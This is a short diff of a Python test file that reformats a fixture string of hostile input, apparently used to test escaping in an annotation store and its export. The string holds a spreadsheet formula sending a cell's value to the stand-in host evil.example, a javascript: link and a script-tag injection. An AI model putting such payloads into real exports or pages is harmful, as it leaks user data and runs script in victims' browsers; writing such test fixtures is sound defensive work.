@@ -17,7 +17,8 @@ from annotator.extract import extract_claims
 from annotator.store import Correction, InvalidInputError, Store
 from annotator.store.export import export
 
-HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"点我")\n# 标题\n[点我](javascript:alert(1)) </script><script>alert(1)</script>'
+HOSTILE_NOTE = ('=HYPERLINK("http://evil.example/?"&A1,"点我")\n# 标题\n'
+                '[点我](javascript:alert(1)) </script><script>alert(1)</script>')
 
 
 @pytest.fixture
